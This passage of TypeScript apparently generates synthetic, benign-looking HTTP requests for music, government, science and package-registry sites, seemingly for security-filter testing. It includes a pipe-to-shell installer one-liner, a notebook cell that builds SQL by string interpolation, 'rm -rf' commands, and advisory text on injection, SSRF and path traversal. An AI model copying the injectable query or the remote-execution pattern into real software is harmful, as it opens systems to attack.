          showNotesHtml: pick(SHOW_NOTES),
          explicit: chance(0.2),
          publishAt: isoDate(),
          chapters: [
            { startMs: 0, title: 'Intro' },
            { startMs: int(60000, 600000), title: pick(['Main interview', 'News', 'Q&A']) },
          ],
        },
        'browser',
      ),
    );
  }
  for (let i = 0; i < 5; i++) {
    add(
      jreq(
        'lyrics',
        'PUT',
        `/v1/artist-portal/tracks/${alnum(22)}/lyrics`,
        {
          language: pick(['en', 'fr', 'ja', 'ar']),
          text: pick(LYRICS),
          synced: chance(0.5)
            ? [
                { t: 12.4, line: 1 },
                { t: 17.9, line: 2 },
              ]
            : [],
          explicit: false,
        },
        'browser',
      ),
    );
  }
  const searchQ = [
    "don't stop me now",
    'select committee podcast',
    'sleep 8 hours rain sounds',
    'AC/DC "back in black"',
    'beyoncé',
    'موسيقى هادئة',
    '夜に駆ける',
    'drop it like it’s hot',
    'union station live 2004',
    'lo-fi & jazz -remix',
  ];
  for (let i = 0; i < 8; i++) {
    const q = pick(searchQ);
    add(
      getreq(
        'search',
        `/v1/search?${qs([
          ['q', q],
          ['type', pick(['track,album', 'show,episode', 'playlist'])],
          ['market', pick(['GB', 'FR', 'JP', 'SA', 'US'])],
          ['limit', '20'],
          ['offset', String(int(0, 4) * 20)],
        ])}`,
        pick<Client>(['browser', 'mobile']),
      ),
    );
  }
  for (let i = 0; i < 5; i++) {
    add(
      gql(
        'graphql',
        '/graphql',
        'query SearchTracks($q: String!, $first: Int = 20, $after: String) {\n  search(query: $q, types: [TRACK, ALBUM]) {\n    tracks(first: $first, after: $after) {\n      edges { node { id title durationMs artists { name } album { title images(size: SMALL) { url } } } }\n      pageInfo { endCursor hasNextPage }\n    }\n  }\n}',
        { q: pick(searchQ), first: 20, after: chance(0.5) ? b64(`arrayconnection:${int(19, 199)}`) : null },
        'SearchTracks',
        'mobile',
      ),
    );
  }
  for (let i = 0; i < 3; i++) {
    add(
      gql(
        'graphql',
        '/graphql',
        'mutation AddTracks($playlistId: ID!, $trackIds: [ID!]!, $position: Int) {\n  addTracksToPlaylist(playlistId: $playlistId, trackIds: $trackIds, position: $position) {\n    playlist { id trackCount snapshotId }\n  }\n}',
        { playlistId: alnum(22), trackIds: [alnum(22), alnum(22)], position: int(0, 30) },
        'AddTracks',
      ),
    );
  }
  add({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: hdrs('browser', 'application/graphql'),
    body: '{\n  me {\n    displayName\n    playlists(first: 50) { nodes { id name trackCount } }\n    recentlyPlayed(limit: 10) { track { title artists { name } } playedAt }\n  }\n}',
  });
  const apqVars = JSON.stringify({ showId: alnum(22), first: 10 });
  const apqExt = JSON.stringify({ persistedQuery: { version: 1, sha256Hash: hex(64) } });
  add(
    getreq(
      'graphql',
      `/graphql?${qs([
        ['operationName', 'ShowEpisodes'],
        ['variables', apqVars],
        ['extensions', apqExt],
      ])}`,
      'browser',
    ),
  );
  for (let i = 0; i < 3; i++) {
    const lines = Array.from({ length: int(3, 8) }, () =>
      JSON.stringify({
        track_id: alnum(22),
        played_at: isoDate(),
        ms_played: int(30000, 320000),
        context: pick(['playlist', 'album', 'radio', 'search']),
        offline: chance(0.2),
        device: pick(['ios', 'android', 'web', 'car']),
      }),
    );
    add({
      kind: 'ndjson',
      method: 'POST',
      path: '/v1/events/plays',
      headers: hdrs('mobile', 'application/x-ndjson'),
      body: `${lines.join('\n')}\n`,
    });
  }
  add(
    jreq(
      'rest-write',
      'POST',
      '/v1/podcasts/import',
      { feedUrl: 'https://feeds.example-podcasts.com/the-data-desk/rss.xml', claimOwnership: true },
      'browser',
    ),
  );
  add(
    jreq(
      'rest-write',
      'POST',
      '/v1/podcasts/import',
      { feedUrl: 'https://anchor.example.fm/s/4a1b2c3d/podcast/rss', claimOwnership: false },
      'browser',
    ),
  );
  const mp = multipart(
    [
      { name: 'title', value: 'Bonus: listener mailbag' },
      {
        name: 'description',
        value:
          'Your questions about sleep, shift work & the select committee hearing. Thanks for writing in — we read every one!',
      },
      {
        name: 'transcript',
        filename: 'ep215-transcript.vtt',
        type: 'text/vtt',
        value:
          'WEBVTT\n\n00:00:00.000 --> 00:00:04.200\n<v Priya>Welcome back to The Data Desk.\n\n00:00:04.200 --> 00:00:09.800\n<v Tom>Today: why you should never SELECT star in a dashboard.',
      },
    ],
    true,
  );
  add({
    kind: 'multipart',
    method: 'POST',
    path: `/v1/shows/${alnum(22)}/episodes`,
    headers: hdrs('browser', mp.ct),
    body: mp.body,
  });
  add({
    kind: 'delete',
    method: 'DELETE',
    path: `/v1/me/playlists/${alnum(22)}/followers`,
    headers: hdrs('mobile', null),
    body: '',
  });
  add(
    jreq(
      'rest-write',
      'DELETE',
      `/v1/playlists/${alnum(22)}/tracks`,
      {
        tracks: [{ uri: `tunewave:track:${alnum(22)}`, positions: [int(0, 20)] }],
        snapshot_id: b64(`${int(10, 99)},${hex(12)}`),
      },
      'mobile',
    ),
  );
}

// ---- government services portal ---------------------------------------------------------------------------

const JUSTIFICATIONS = [
  "I'm applying because my hours at the warehouse were cut from 38 to 16 per week in October and I can no longer cover rent and utilities.",
  'Mi madre no habla inglés; yo estoy llenando el formulario por ella. Vive sola desde que falleció mi padre.',
  'We had to drop out of the union health plan when my husband was laid off. The select committee report on the cost of living said families in our situation should qualify.',
  'My doctor says I must sleep 8 hours and avoid night shifts after my surgery (see attached letter dated 04/11/2025).',
  'Landlord served a Section 21 notice; we have until 14/02 to leave and nothing affordable is available in the area.',
  "I tried to submit on 3 Jan but got 'Error: session expired' and lost everything — please check if there's a duplicate application.",
  'أنا أم عزباء لثلاثة أطفال، وأعمل بدوام جزئي. أحتاج إلى المساعدة في دفع الإيجار حتى أجد عملاً بدوام كامل.',
  "The assessor wrote that I can 'walk 200 m unaided' — that is not correct. On a good day I manage 50 m with a stick, and I have to stop twice.",
  'I care for my brother (he has MS) for about 40 hours a week, so I can only work evenings.',
  "My partner's income shouldn't be counted: we separated in August and he moved out (new address attached).",
  '私は日本から来た留学生の配偶者です。就労制限があるため、住宅手当について相談したいです。',
  "Our boiler broke in December & the repair quote is £1,450. We've got two kids under 5 and the house is freezing.",
  'Please note: my surname is spelled D\'Souza (with an apostrophe) — the previous letter was addressed to "Dsouza" and the bank rejected it.',
];

function government(): void {
  for (let i = 0; i < 16; i++) {
    const addr = pick(ADDRESSES);
    const name = pick(NAMES);
    add(
      jreq(
        'rest-write',
        'POST',
        '/portal/api/applications',
        {
          scheme: pick([
            'housing-support',
            'council-tax-reduction',
            'carers-allowance',
            'winter-fuel',
            'free-school-meals',
          ]),
          applicant: {
            fullName: name,
            dateOfBirth: `19${int(50, 99)}-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`,
            nationalInsuranceNumber: `QQ ${int(10, 99)} ${int(10, 99)} ${int(10, 99)} ${pick(['A', 'B', 'C', 'D'])}`,
            address: addr,
            phone: pick(['07700 900 123', '+44 20 7946 0018', '0161 496 0000']),
            preferredLanguage: pick(['en', 'cy', 'ar', 'pl', 'es', 'ur']),
          },
          household: Array.from({ length: int(0, 3) }, () => ({
            relationship: pick(['partner', 'child', 'parent', 'lodger']),
            age: int(1, 80),
          })),
          income: [
            {
              source: pick(['employment', 'self-employment', 'pension', 'universal-credit']),
              amountPence: int(20000, 250000),
              frequency: pick(['weekly', 'monthly', 'four-weekly']),
            },
          ],
          justification: para(JUSTIFICATIONS, 1, 3),
          declaration: { truthful: true, signedName: name, signedAt: isoDate() },
        },
        pick<Client>(['browser', 'mobile']),
      ),
    );
  }
  for (let i = 0; i < 8; i++) {
    add(
      jreq(
        'prose',
        'POST',
        `/portal/api/cases/${pick(['HSG', 'CTR', 'CAR'])}-${int(100000, 999999)}/appeal`,
        {
          decisionDate: isoDate().slice(0, 10),
          reasons: para(JUSTIFICATIONS, 2, 4),
          wantsHearing: chance(0.5),
          representative: chance(0.3)
            ? { name: "Citizens Advice — St Mary's branch", reference: `CA/${int(1000, 9999)}` }
            : null,
        },
        'browser',
      ),
    );
  }
  const steps: Array<Array<[string, string]>> = [];
  for (let i = 0; i < 8; i++) {
    const a = pick(ADDRESSES);
    steps.push([
      ['full-name', pick(NAMES)],
      ['address-line-1', a.line1],
      ['address-line-2', a.line2],
      ['town', a.city],
      ['postcode', a.postcode],
      ['lived-here-since[month]', String(int(1, 12))],
      ['lived-here-since[year]', String(int(1990, 2025))],
      ['tenure', pick(['private-rented', 'council', 'housing-association', 'owner'])],
      ['more-detail', pick(['', pick(JUSTIFICATIONS)])],
      ['continue', 'Save and continue'],
    ]);
  }
  for (const [i, s] of steps.entries()) {
    add(
      form(
        'form',
        'POST',
        `/apply/${pick(['housing-support', 'council-tax-reduction'])}/step-${(i % 4) + 2}`,
        s,
      ),
    );
  }
  add(
    form('form', 'POST', '/account/contact', [
      ['subject', 'Change of circumstances'],
      [
        'message',
        "I've started a new job (16 hrs/week) from Monday — do I need to fill in the whole form again? Thanks, Tomás",
      ],
      ['reply-by', 'email'],
    ]),
  );
  add(
    form('form', 'POST', '/sign-in', [
      ['email', 'liam.onb@example.com'],
      ['password', "Rugby'N'Rain#2026"],
      ['remember-me', 'true'],
    ]),
  );
  const searchQs = [
    'council tax reduction',
    "carer's allowance eligibility",
    'blue badge renewal',
    'bin collection "bank holiday"',
    'الإعانات السكنية',
    'cymorth tai',
    'free school meals + uniform grant',
    'report a pothole',
  ];
  for (let i = 0; i < 6; i++) {
    const style = chance(0.5);
    const q = pick(searchQs);
    add(
      getreq(
        'search',
        style
          ? `/portal/api/services/search?${qs([
              ['q', q],
              ['postcode', pick(ADDRESSES).postcode],
              ['lang', pick(['en', 'cy', 'ar'])],
            ])}`
          : `/search?${form_([
              ['q', q],
              ['page', String(int(1, 4))],
            ])}`,
        'browser',
      ),
    );
  }
  add(
    getreq(
      'search',
      `/portal/api/address-lookup?${qs([
        ['postcode', 'BT7 1NN'],
        ['house', "St Patrick's Court"],
      ])}`,
      'browser',
    ),
  );
  for (let i = 0; i < 4; i++) {
    const mp = multipart(
      [
        {
          name: 'documentType',
          value: pick(['tenancy-agreement', 'payslip', 'medical-letter', 'bank-statement']),
        },
        {
          name: 'description',
          value: pick([
            "Landlord's letter re: rent increase (page 2 is the important one)",
            'Payslips Oct–Dec',
            'GP letter — Dr. Ní Bhriain',
            'كشف حساب بنكي لشهر نوفمبر',
          ]),
        },
        {
          name: 'file',
          filename: pick(['scan_0001.pdf', 'letter from landlord.pdf', 'payslip-dec.pdf', 'خطاب.pdf']),
          type: 'application/pdf',
          value: `%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Lang (en-GB) >>\nendobj\n4 0 obj\n<< /Producer (Microsoft® Word for Microsoft 365) /CreationDate (D:20251104${int(10, 23)}1200Z) >>\nendobj\ntrailer\n<< /Root 1 0 R /Info 4 0 R >>\n%%EOF`,
        },
      ],
      true,
    );
    add({
      kind: 'multipart',
      method: 'POST',
      path: `/portal/api/applications/${uuid()}/documents`,
      headers: hdrs('browser', mp.ct),
      body: mp.body,
    });
  }
  add(
    jreq(
      'merge-patch',
      'PATCH',
      `/portal/api/applications/${uuid()}`,
      { applicant: { address: { line2: 'Flat 2/1' }, phone: null }, contactPreference: 'sms' },
      'browser',
      'application/merge-patch+json',
    ),
  );
  add(
    jreq(
      'rest-write',
      'PUT',
      `/portal/api/me/notification-preferences`,
      { email: true, sms: false, post: true, language: 'cy', quietHours: { from: '22:00', to: '07:00' } },
      'browser',
    ),
  );
  add({
    kind: 'delete',
    method: 'DELETE',
    path: `/portal/api/applications/${uuid()}/documents/${uuid()}`,
    headers: hdrs('browser', null),
    body: '',
  });
  add(
    gql(
      'graphql',
      '/portal/graphql',
      'query MyCases($status: [CaseStatus!]) {\n  me { cases(status: $status) { reference scheme status lastUpdated nextAction { label dueDate } } }\n}',
      { status: ['OPEN', 'AWAITING_EVIDENCE'] },
      'MyCases',
      'browser',
    ),
  );
}

// ---- scientific data platform ------------------------------------------------------------------------------

const DATASET_DESC = [
  'Daily mean sea-surface temperature (SST, °C) from 1982–2024 at 0.25° resolution; values below −1.8 °C are flagged as sea ice.',
  'NDVI = (NIR − Red) / (NIR + Red), computed from Sentinel-2 L2A bands B8 and B4 after cloud masking (SCL ∉ {3, 8, 9, 10}).',
  'Reaction rates follow the Arrhenius equation k = A·exp(−Ea/RT), with Ea in kJ mol⁻¹ and T in kelvin.',
  'Sample variance is reported as σ² = Σ(xᵢ − μ)² / (n − 1); confidence intervals are 95 % bootstrap (B = 10 000).',
  'CO₂ flux measured by eddy covariance in µmol m⁻² s⁻¹; gaps < 2 h filled by linear interpolation, longer gaps left as NaN.',
  'Gibbs free energy: $\\Delta G = \\Delta H - T\\Delta S$; see the supplementary PDF for the derivation at p ≥ 1 atm.',
  'Logistic growth fitted as $\\frac{dN}{dt} = rN\\left(1 - \\frac{N}{K}\\right)$ with r, K estimated per plot.',
  'Column `depth_m` is positive downwards. Rows where `qc_flag` = 4 (bad) were dropped; flag 3 (probably bad) kept but marked.',
  'Units: salinity in PSU (practical salinity scale, dimensionless), pressure in dbar, temperature ITS-90.',
  'Data were collected under permit #NP-2023-117 and are released under CC BY 4.0. Please cite Dubois & Åkesson (2025), doi:10.5281/zenodo.1234567.',
  '観測データは気象庁のAMeDASから取得し、1時間ごとに集計しました。',
  'Known issue: station KX-03 drifted +0.3 K between 2019-05 and 2019-08; a union of both calibration tables is applied.',
  "The 'select' subset (n = 412) excludes participants who withdrew consent; the full table is available on request via the DAC.",
];
const SAVED_EXPRESSIONS = [
  "depth_m BETWEEN 200 AND 1000 AND (species = 'Gadus morhua' OR species LIKE 'Melanogrammus%') ORDER BY sampled_at DESC",
  "station_id IN ('KX-01','KX-02','KX-05') AND temperature_k > 273.15 AND qc_flag < 3",
  "cruise = 'JC-231' AND NOT (salinity_psu IS NULL) LIMIT 5000",
  'year >= 2010 AND ndvi > 0.6 AND cloud_pct <= 20 GROUP BY tile_id',
  "lower(site_name) LIKE '%loch%' AND elevation_m < 300",
  "observed_at >= '2024-01-01' AND observed_at < '2025-01-01' AND variable = 'pm2_5'",
];
const NOTEBOOK_CELLS: string[] = [
  'import pandas as pd\nimport numpy as np\nimport xarray as xr\n\nds = xr.open_dataset("sst_daily_0p25.nc")\nds',
  'import duckdb\ncon = duckdb.connect()\ndf = con.execute("""\n    SELECT station, AVG(depth_m) AS mean_depth, COUNT(*) AS n\n    FROM read_parquet(\'casts/*.parquet\')\n    WHERE qc_flag < 3 AND cruise = \'JC-231\'\n    GROUP BY station\n    ORDER BY n DESC\n""").df()\ndf.head()',
  '!pip install --quiet cartopy==0.24.1 cmocean',
  '%%bash\nwget -q https://data.example.org/releases/v3/casts.tar.gz\ntar -xzf casts.tar.gz -C data/\nls -lh data/ | head',
  'import subprocess\nsubprocess.run(["gdalwarp", "-t_srs", "EPSG:4326", "in.tif", "out.tif"], check=True)',
  'fig, ax = plt.subplots(figsize=(8, 4))\nax.plot(df["time"], df["sst"], lw=0.8)\nax.set_ylabel("SST (°C)")\nax.set_title(f"Station {station} — {len(df):,} obs")\nplt.tight_layout()',
  'def arrhenius(T, A, Ea, R=8.314):\n    """k = A * exp(-Ea / (R * T))"""\n    return A * np.exp(-Ea / (R * T))\n\npopt, pcov = curve_fit(arrhenius, T, k, p0=[1e7, 5e4])',
  '# Clean up scratch files from the previous run\nimport os, glob\nfor f in glob.glob("/tmp/scratch_*.nc"):\n    os.remove(f)',
  'query = f"SELECT * FROM observations WHERE site = \'{site}\' AND year = {year}"\nobs = pd.read_sql(query, engine)',
  '## Results\n\nThe mean bias is **−0.12 K** (σ = 0.31 K). See Fig. 2.\n\n$$\\bar{x} = \\frac{1}{n}\\sum_{i=1}^{n} x_i$$',
];
const DATA_COMMENTS = [
  "The `depth` column is in feet, not metres, for rows where `source = 'NOAA-legacy'`. Quick check:\n\n```sql\nSELECT station, AVG(depth) FROM casts WHERE source = 'NOAA-legacy' GROUP BY station;\n```\n\nCould you add a note to the README?",
  'Download of `v3/casts.tar.gz` fails with `curl: (18) transfer closed with 104857600 bytes remaining`. Tried `wget -c` too. Mirror?',
  'Thanks for publishing this! Small thing: the formula in section 2 should be σ² = Σ(xᵢ − x̄)²/(n − 1), not /n.',
  'Is the 2019 drift correction applied before or after the union with the calibration table? Results differ by ~0.3 K.',
  "Reproduced with:\n\n```python\nds = xr.open_dataset('sst.nc')\nprint(ds.sst.sel(time='2020-01').mean().values)\n```\n\n→ 14.82, the paper says 14.91.",
  'Données manquantes pour la station de Brest entre le 12 et le 19 mars 2024 — problème de capteur ?',
  'Could you expose `qc_flag` in the API filter? Right now I download everything and drop rows with `df[df.qc_flag < 3]`.',
];

function science(): void {
  for (let i = 0; i < 12; i++) {
    add(
      jreq('rest-write', i % 2 ? 'POST' : 'PUT', i % 2 ? '/api/datasets' : `/api/datasets/${uuid()}`, {
        title: pick([
          'Global SST daily 0.25°',
          'North Sea CTD casts 1990–2024',
          'Sentinel-2 NDVI, Cairngorms',
          'Urban PM₂.₅ low-cost sensors',
          'Arrhenius kinetics — enzyme assays',
          'AMeDAS hourly (Kantō)',
          'Eddy-covariance CO₂ flux, Hyytiälä',
        ]),
        description: para(DATASET_DESC, 2, 5),
        keywords: some(
          ['oceanography', 'remote sensing', 'climate', 'kinetics', 'air quality', 'time series', 'CTD'],
          2,
          4,
        ),
        license: pick(['CC-BY-4.0', 'CC0-1.0', 'ODbL-1.0']),
        temporalCoverage: { start: '1982-01-01', end: '2024-12-31' },
        spatialCoverage: {
          type: 'Polygon',
          coordinates: [
            [
              [-4.5, 56.8],
              [-3.2, 56.8],
              [-3.2, 57.4],
              [-4.5, 57.4],
              [-4.5, 56.8],
            ],
          ],
        },
        variables: [
          { name: 'sst', units: '°C', longName: 'sea surface temperature' },
          { name: 'depth_m', units: 'm' },
        ],
      }),
    );
  }
  for (let i = 0; i < 5; i++) {
    add(
      jreq(
        'jsonapi',
        'PATCH',
        `/api/v1/datasets/${uuid()}`,
        {
          data: {
            type: 'datasets',
            id: uuid(),
            attributes: {
              description: para(DATASET_DESC, 1, 3),
              'embargo-until': null,
              version: `${int(1, 4)}.${int(0, 9)}.0`,
            },
          },
        },
        'browser',
        'application/vnd.api+json',
      ),
    );
  }
  for (let i = 0; i < 6; i++) {
    add(
      jreq(
        'saved-search',
        'POST',
        '/api/saved-searches',
        {
          name: pick([
            'Deep cod hauls',
            'Clean KX stations',
            'JC-231 salinity',
            'Green tiles since 2010',
            'Highland lochs',
            'PM2.5 in 2024',
          ]),
          savedSearch: {
            dataset: uuid(),
            expression: pick(SAVED_EXPRESSIONS),
            columns: ['station_id', 'observed_at', 'value'],
          },
          notify: pick(['never', 'daily', 'weekly']),
        },
        'browser',
      ),
    );
  }
  for (let i = 0; i < 10; i++) {
    const cells = some(NOTEBOOK_CELLS, 2, 5).map((source) => ({
      cell_type: source.startsWith('##') ? 'markdown' : 'code',
      metadata: {},
      source,
      ...(source.startsWith('##') ? {} : { execution_count: int(1, 40), outputs: [] }),
    }));
    add(
      jreq(
        'notebook',
        'PUT',
        `/api/notebooks/${uuid()}/contents`,
        {
          name: pick(['sst-trend.ipynb', 'ctd-qc.ipynb', 'arrhenius-fit.ipynb', 'ndvi-cairngorms.ipynb']),
          format: 'json',
          nbformat: 4,
          nbformat_minor: 5,
          metadata: {
            kernelspec: { name: 'python3', display_name: 'Python 3 (ipykernel)', language: 'python' },
          },
          cells,
        },
        'browser',
      ),
    );
  }
  for (let i = 0; i < 10; i++) {
    add(
      jreq(
        'issue-comment',
        'POST',
        `/api/datasets/${uuid()}/discussions/${int(1, 80)}/comments`,
        { body: pick(DATA_COMMENTS), format: 'markdown' },
        'browser',
      ),
    );
  }
  const dsSearch: Array<Array<[string, string]>> = [
    [
      ['q', 'salinity "North Sea"'],
      ['filter', "year ge 2010 and instrument eq 'CTD'"],
      ['sort', '-downloads'],
      ['page', '1'],
    ],
    [
      ['q', 'NDVI'],
      ['bbox', '-4.5,56.8,-3.2,57.4'],
      ['license', 'CC-BY-4.0'],
      ['per_page', '50'],
    ],
    [
      ['q', 'PM2.5 OR PM10'],
      ['from', '2024-01-01'],
      ['to', '2024-12-31'],
      ['format', 'parquet'],
    ],
    [
      ['q', 'select committee evidence'],
      ['type', 'document'],
    ],
    [
      ['q', 'CO₂ flux µmol'],
      ['sort', 'relevance'],
    ],
    [
      ['filter[variables.units]', '°C'],
      ['filter[temporal.start][gte]', '2000-01-01'],
      ['include', 'creators,files'],
    ],
  ];
  for (const s of dsSearch) add(getreq('search', `/api/datasets?${qs(s)}`));
  for (let i = 0; i < 3; i++) {
    const lines = Array.from({ length: int(4, 10) }, () =>
      JSON.stringify({
        station_id: pick(['KX-01', 'KX-02', 'KX-05']),
        observed_at: isoDate(),
        temperature_k: Math.round((270 + rnd() * 30) * 100) / 100,
        salinity_psu: Math.round((30 + rnd() * 6) * 1000) / 1000,
        qc_flag: int(1, 3),
        comment: pick(['', '', 'sensor cleaned', 'ship roll > 10°', 're-cast after winch fault']),
      }),
    );
    add({
      kind: 'ndjson',
      method: 'POST',
      path: `/api/datasets/${uuid()}/rows:append`,
      headers: hdrs('lib', 'application/x-ndjson'),
      body: `${lines.join('\n')}\n`,
    });
  }
  const csv = [
    'station_id,observed_at,temperature_k,salinity_psu,qc_flag',
    'KX-01,2024-03-12T06:00:00Z,281.42,34.912,1',
    'KX-01,2024-03-12T07:00:00Z,281.40,34.915,1',
    'KX-02,2024-03-12T06:00:00Z,,34.870,9',
  ].join('\n');
  const mp = multipart(
    [
      { name: 'notes', value: "Re-uploaded after fixing the 'NaN' vs blank issue; qc_flag 9 = missing." },
      { name: 'file', filename: 'kx_2024-03.csv', type: 'text/csv', value: csv },
    ],
    false,
  );
  add({
    kind: 'multipart',
    method: 'POST',
    path: `/api/datasets/${uuid()}/files`,
    headers: hdrs('lib', mp.ct),
    body: mp.body,
  });
  add(
    jreq(
      'webhook',
      'POST',
      '/api/hooks/pipeline',
      {
        event: 'job.finished',
        job: {
          id: `job_${alnum(10)}`,
          dag: 'ingest_ctd_daily',
          status: 'success',
          durationSec: int(30, 900),
          log_tail:
            'INFO rows_written=10482\nWARN 3 rows with qc_flag=4 dropped\nINFO done: rm tmp/ and exit 0',
        },
      },
      'lib',
    ),
  );
  add(
    gql(
      'graphql',
      '/api/graphql',
      'query Dataset($id: ID!, $first: Int!) {\n  dataset(id: $id) { title version files(first: $first) { name sizeBytes checksum { algorithm value } } citations { doi } }\n}',
      { id: uuid(), first: 25 },
      'Dataset',
      'lib',
    ),
  );
  add({
    kind: 'delete',
    method: 'DELETE',
    path: `/api/saved-searches/${uuid()}`,
    headers: hdrs('browser', null),
    body: '',
  });
}

// ---- open-source package registry -------------------------------------------------------------------------

const READMES = [
  '# tiny-chart\n\n[![npm](https://img.shields.io/npm/v/tiny-chart.svg)](https://www.npmjs.com/package/tiny-chart) ![license](https://img.shields.io/badge/license-MIT-blue)\n\nA 3 kB chart library with zero dependencies.\n\n## Install\n\n```sh\nnpm i tiny-chart\n```\n\nOr from a CDN:\n\n```html\n<script src="https://cdn.jsdelivr.net/npm/tiny-chart@2/dist/tiny-chart.min.js"></script>\n<canvas id="c" width="400" height="200"></canvas>\n<script>\n  TinyChart.line(document.getElementById(\'c\'), [1, 3, 2, 5]);\n</script>\n```\n\n## License\n\nMIT © Zoë Lefèvre',
  "# sqlbird\n\nTagged-template SQL for Node with automatic parameter binding.\n\n```ts\nimport { sql } from 'sqlbird';\n\nconst rows = await sql`SELECT id, name FROM users WHERE email = ${email} AND deleted_at IS NULL`;\n```\n\nValues are **never** interpolated into the query text; the above becomes `SELECT id, name FROM users WHERE email = $1 AND deleted_at IS NULL`.\n\n### Migrations\n\n```sh\nnpx sqlbird migrate up --to 20260101_add_index\n```\n\n> ⚠️ `sql.raw()` bypasses escaping — only use it with constants.",
  "# devbox-setup\n\nOne-line installer for our dev environment:\n\n```bash\ncurl -fsSL https://get.devbox.example.dev/install.sh | bash\n```\n\nIf you'd rather inspect it first:\n\n```bash\ncurl -fsSL https://get.devbox.example.dev/install.sh -o install.sh\nless install.sh\nbash install.sh --prefix \"$HOME/.local\"\n```\n\nUninstall: `rm -rf ~/.devbox && sed -i '/devbox/d' ~/.bashrc`",
  "# path-safe-join\n\nJoin path segments and refuse anything that escapes the root.\n\n```js\nconst { safeJoin } = require('path-safe-join');\nsafeJoin('/srv/uploads', 'avatars/me.png'); // => '/srv/uploads/avatars/me.png'\nsafeJoin('/srv/uploads', '../secrets');     // throws RangeError\n```\n\nWorks on Windows too (`C:\\\\data` roots, `\\\\` separators).",
  "# templ8\n\nMinimal logic-less templates.\n\n```js\nimport { render } from 'templ8';\nrender('Hello, {{name}}! You have {{count}} new messages.', { name: 'Ana', count: 3 });\n```\n\nEscaping is on by default; use `{{{html}}}` for trusted HTML.\n\n## 中文说明\n\n一个极简的模板引擎，不支持任何逻辑。",
  "# merge-deep-safe\n\nDeep merge that ignores `__proto__`, `constructor` and `prototype` keys, so it is safe on parsed JSON.\n\n```js\nimport merge from 'merge-deep-safe';\nconst cfg = merge(defaults, JSON.parse(userConfig));\n```\n\nBenchmarks: 2.1× faster than lodash.merge on 10k-key objects.",
];
const CHANGELOGS = [
  "## [2.4.1] - 2026-11-20\n\n### Fixed\n- Escape `'` correctly in `WHERE` clauses built with `sql.identifier()` (#412)\n- `migrate down` no longer drops the `_migrations` table when the last step fails\n\n### Security\n- Reject path segments containing `..` in `serveStatic` (GHSA-xxxx-2026-0007). Thanks @alice for the report!",
  '## 3.0.0\n\n**Breaking:** Node 18 is no longer supported.\n\n- New `select()` API replaces `pick()`.\n- Removed the deprecated `exec` option; use `run` instead.\n- The CLI now exits with code 2 on invalid config (was 1).',
  "## v1.8.0 (2026-10-02)\n\n* feat: `--sleep <ms>` flag for the retry loop (default 250)\n* fix: don't crash when `HOME` is unset (#88)\n* docs: note that `rm -rf node_modules` fixes the peer-dep warning on npm 10",
  '## 0.9.3\n\n- Corrige el error de codificación con caracteres acentuados (ñ, á, ü).\n- 修复了 Windows 下路径分隔符的问题。\n- Union types are now emitted for optional enum fields.',
];
const ADVISORIES = [
  'A SQL injection vulnerability exists in the `orderBy` option of `sqlbird` before 2.4.1. When an application passes user-controlled input to `orderBy`, an attacker can append arbitrary SQL to the generated query. Applications that use a fixed allow-list of column names are not affected. Upgrade to 2.4.1, which validates identifiers.',
  'Versions of `merge-anything-now` prior to 4.2.0 are vulnerable to prototype pollution. The `merge()` function does not skip the `__proto__` key when recursively copying properties from a parsed JSON object, allowing an attacker to add properties to `Object.prototype`. This can lead to denial of service or, in some applications, privilege escalation.',
  'The archive extraction helper in `unpackr` < 1.3.2 does not normalise entry names, so an archive containing entries with `../` sequences can write files outside the target directory ("Zip Slip"). Users should upgrade and avoid extracting untrusted archives as root.',
  '`templ8` 0.x compiles templates with `new Function()`. If an application lets end users author templates, a malicious template can execute arbitrary JavaScript on the server. The maintainers recommend treating templates as code; 1.0 removes the compiler.',
  'In `fetch-preview` before 0.7.0 the URL-preview endpoint follows redirects to private IP ranges, which can be abused for server-side request forgery against cloud metadata services. 0.7.0 blocks link-local, loopback and RFC 1918 addresses after DNS resolution.',
  'An unauthenticated attacker could cause excessive CPU usage (ReDoS) by sending a crafted `Accept-Language` header to applications using `negotiator-lite` ≤ 2.0.3. The regular expression has been rewritten to run in linear time.',
];
const ISSUE_COMMENTS = [
  "Same here on Windows 11 / Node 22.11:\n\n```\nError: EPERM: operation not permitted, unlink 'C:\\Users\\zoe\\AppData\\Local\\npm-cache\\_cacache\\tmp\\a1b2c3'\n    at async Object.unlink (node:internal/fs/promises:1066:3)\n```\n\nWorkaround: close VS Code and run `npm cache clean --force`.",
  "I think the bug is in `buildWhere()` — when `value` is an array it does `.join(',')` instead of binding each element. Repro:\n\n```js\nawait db.select('users').where({ id: [1, 2, 3] });\n// generated: SELECT * FROM users WHERE id IN ($1)  -- should be ($1, $2, $3)\n```",
  '+1, would love a `--dry-run` flag. Right now I do `npx thing publish 2>&1 | tee log.txt` and then `grep -c ERROR log.txt` which is... not great 😅',
  'Can confirm the fix in 2.4.1 works. Tested with `SELECT 1; -- comment` in a migration file and it no longer splits on the semicolon inside the comment.',
  "This isn't a security issue IMO: you need shell access to set `NODE_OPTIONS` in the first place. Closing, but happy to reopen if there's a remote vector.",
  'Bisected to a3f9c21. The regression is that `path.join(root, req.params.file)` was replaced with string concatenation; `path.resolve` + a `startsWith(root)` check would fix it.',
  'Merci pour la PR ! Petite remarque : la doc dit `npm run build && npm test`, mais sur Windows il faut `npm run build; npm test` dans PowerShell 5.',
  "LGTM. Nit: `rm -rf dist` in the `clean` script won't work on Windows without `rimraf` — maybe use `node -e \"fs.rmSync('dist',{recursive:true,force:true})\"`?",
];

function registry(): void {
  const pkgs = [
    'tiny-chart',
    'sqlbird',
    'devbox-setup',
    'path-safe-join',
    'templ8',
    'merge-deep-safe',
    '@acme/ui-kit',
    '@zoe/fetch-preview',
  ];
  for (let i = 0; i < 6; i++) {
    const name = pick(pkgs);
    const version = `${int(0, 4)}.${int(0, 12)}.${int(0, 9)}`;
    const tarball = Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), bytes(int(60, 160))]).toString(
      'base64',
    );
    add(
      jreq(
        'manifest',
        'PUT',
        `/${name.replace('/', '%2f')}`,
        {
          _id: name,
          name,
          description: pick([
            'A 3 kB chart library',
            'Tagged-template SQL for Node',
            'Safe path joining',
            'Logic-less templates',
            'Deep merge without prototype pollution',
          ]),
          'dist-tags': { latest: version },
          versions: {
            [version]: {
              name,
              version,
              main: 'dist/index.js',
              types: 'dist/index.d.ts',
              scripts: {
                build: 'tsc -p tsconfig.build.json',
